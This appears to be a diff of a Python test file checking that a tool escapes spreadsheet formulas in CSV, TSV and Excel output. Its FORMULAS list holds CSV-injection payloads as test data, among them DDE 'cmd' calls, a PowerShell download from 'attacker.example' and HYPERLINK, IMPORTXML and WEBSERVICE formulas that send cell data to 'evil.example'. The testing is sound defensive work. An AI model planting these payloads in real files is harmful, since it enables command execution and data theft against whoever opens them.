@@ -5,11 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 import signal
 import subprocess
 import sys
 from pathlib import Path
 from types import SimpleNamespace
+from typing import Any
+from zipfile import ZipFile
 
 import pytest
 from hypothesis import given
@@ -113,42 +116,90 @@ def test_a_killed_writer_leaves_the_old_file_and_its_temporary_file_is_removed(t
     assert [record.values for record in open_source(path)] == [{"id": "1"}]
 
 
-GOLDEN = [
-    ("=1+1", "'=1+1"),
-    ("+SUM(A1)", "'+SUM(A1)"),
-    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(1)", "'@SUM(1)"),
-    ("\tx", "'\tx"),
-    ("\rx", "'\rx"),
-    (" =1", "' =1"),
-    ('"=1', "'\"=1"),
-    ("'=1", "''=1"),
-    ("\n=1", "'\n=1"),
-    ("\u00a0=1", "'\u00a0=1"),
-    ("\uff1d1+1", "'\uff1d1+1"),
-    ("-", "'-"),
-    ("-5", "-5"),
-    ("+5", "+5"),
-    ("-5.25e-3", "-5.25e-3"),
-    ("-5\n=1", "'-5\n=1"),
-    ("a=1", "a=1"),
-    ("a@b.c", "a@b.c"),
-    ("'tis", "'tis"),
+FORMULAS = [
+    "=1+1",
+    "=",
+    "+SUM(A1)",
+    "+A1",
+    "-2+3+cmd|' /C calc'!A0",
+    "-1'file:///etc/passwd'#$a.A1",
+    "-1 SUM(1)",
+    "+1(2)A(3)",
+    "- milk",
+    "@SUM(1)",
+    "@a SUM(1)",
+    "@SUM (1)",
+    "@A1!B",
+    "@cmd|' /C calc'!A0",
+    "@user thanks",
+    "\tx",
+    "\rx",
+    " =1",
+    '"=1',
+    "\"'=1",
+    "\n=1",
+    "\u00a0=1",
+    "\uff1d1+1",
+    "\uff20SUM(1)",
+    "-5\n=1",
+    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
+    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
+    "+thespanishinquisition(cmd|'/c calc.exe'!A",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    "=10+20+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "-5*cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
+    "='file:///etc/passwd'#$passwd.A1",
+    '+WEBSERVICE("http://evil.example")',
+]
+HARMLESS = [
+    *("-5", "+5", "-5.25e-3", "-1,234.50", "-1.234,50 EUR", "-$5.00", "-5 %", "-5 \u00b0C", "+ 5", "-05:00"),
+    *("+49 30 1234567", "+49 (0)30 / 123-45", "+1 (555) 010-0000 ext. 12", "+1-800-555-0100", "+49\u00a030\u2011123"),
+    *("@handle", "@\u0438\u043c\u044f", "@example.com", "@scope/package"),
+    *("-", "--", "+", "@", "- - -"),
+    *("a=1", "a@b.c", "'tis", "'=1", "''=1"),
 ]
 
 
-@pytest.mark.parametrize(("text", "escaped"), GOLDEN)
-@pytest.mark.parametrize("suffix", ["csv", "tsv", "xlsx"])
-def test_formulas_are_escaped_in_spreadsheets(tmp_path: Path, suffix: str, text: str, escaped: str) -> None:
-    def cells(*, formulas: bool) -> list[object]:
-        columns = (*input_columns([text]), *output_columns({"properties": {"o": {"type": "string"}}}))
-        with open_sink(tmp_path / f"t.{suffix}", columns, formulas=formulas, overwrite=True) as sink:
-            sink.write({"input": {text: text}, "output": {"o": text}})
-        source = open_source(tmp_path / f"t.{suffix}")
-        return [*source.columns, *next(iter(source)).values.values()]
+def write_and_read_cells(path: Path, text: str, guard_formulas: Any) -> list[Any]:
+    """Write a text into columns of the input, the output and the run, and return the names and the cells."""
+    columns = (*input_columns([text]), *output_columns({"properties": {"o": {}}}), *run_columns("message"))
+    with open_sink(path, columns, guard_formulas=guard_formulas, overwrite=True) as sink:
+        sink.write({"input": {text: text}, "output": {"o": text}, "run": {"message": text}})
+    source = open_source(path, delimiter={".csv": ",", ".tsv": "\t"}.get(path.suffix))
+    return [*source.columns, *next(iter(source)).values.values()]
 
-    assert cells(formulas=False) == [escaped, "o", escaped, escaped]
-    assert cells(formulas=True) == [text, "o", text, text]
+
+@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.parametrize("suffix", ["csv", "tsv"])
+def test_formulas_are_escaped_in_the_columns_of_the_setting(tmp_path: Path, suffix: str, text: str) -> None:
+    path, escaped = tmp_path / f"t.{suffix}", f"'{text}"
+    assert write_and_read_cells(path, text, "all") == [escaped, "o", "message", escaped, escaped, escaped]
+    assert write_and_read_cells(path, text, "output") == [text, "o", "message", text, escaped, escaped]
+    assert write_and_read_cells(path, text, "none") == [text, "o", "message", text, text, text]
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+@pytest.mark.parametrize("suffix", ["csv", "tsv"])
+def test_numbers_phone_numbers_names_dashes_and_escaped_texts_are_unchanged(
+    tmp_path: Path, suffix: str, text: str
+) -> None:
+    assert write_and_read_cells(tmp_path / f"t.{suffix}", text, "all")[3:] == [text, text, text]
+
+
+@pytest.mark.parametrize("guard_formulas", ["all", "none"])
+def test_excel_has_texts_unchanged_in_cells_that_stay_texts(tmp_path: Path, guard_formulas: str) -> None:
+    path, texts = tmp_path / "t.xlsx", [*FORMULAS, *HARMLESS]
+    with open_sink(path, input_columns(["t"]), guard_formulas=guard_formulas) as sink:
+        for text in texts:
+            sink.write({"input": {"t": text}})
+    assert [record.values["t"] for record in open_source(path)] == texts
+    with ZipFile(path) as book:
+        sheet, styles = book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/styles.xml").decode()
+    assert "<f>" not in sheet
+    assert sheet.count(' s="1" t="') == len(FORMULAS)
+    assert 'quotePrefix="1"' in styles, "Excel keeps these cells as text when they are edited"
 
 
 @pytest.mark.parametrize("suffix", ["jsonl", "parquet", "arrow", "db"])
@@ -159,11 +210,18 @@ def test_formulas_are_unchanged_in_other_formats(tmp_path: Path, suffix: str) ->
 
 
 @given(st.text(st.sampled_from("=+-@\t\r\n '\"1.ea\x00\uff1d")))
-def test_an_escaped_text_is_not_a_formula_after_stripping_and_can_be_unescaped(text: str) -> None:
+def test_an_escaped_text_is_not_escaped_again(text: str) -> None:
     escaped = escape_formula(text)
-    assert not escaped.startswith(("=", "@", "\t", "\r"))
-    original = escaped[1:] if escaped.startswith("'") and is_formula(escaped[1:]) else escaped
-    assert original == text
+    assert not is_formula(escaped)
+    assert escape_formula(escaped) == escaped
+    assert escaped.removeprefix("'") == text.removeprefix("'")
+
+
+@given(st.text(st.sampled_from("=+-@\t\n '\"1.ea(|![{#\\\uff1d"), max_size=12))
+def test_no_text_that_is_left_unchanged_can_call_or_refer_to_anything(text: str) -> None:
+    unquoted = text.strip("\"'` \n")
+    if not text.startswith("'") and not is_formula(text) and unquoted[:1] in {*"=+-@\t\uff1d"} and unquoted:
+        assert not re.search(r"^[=\t\uff1d]|[|!\[{#\\=]|[^\W\d] *\(", unquoted)
 
 
 def test_numbers_are_numbers(tmp_path: Path) -> None:
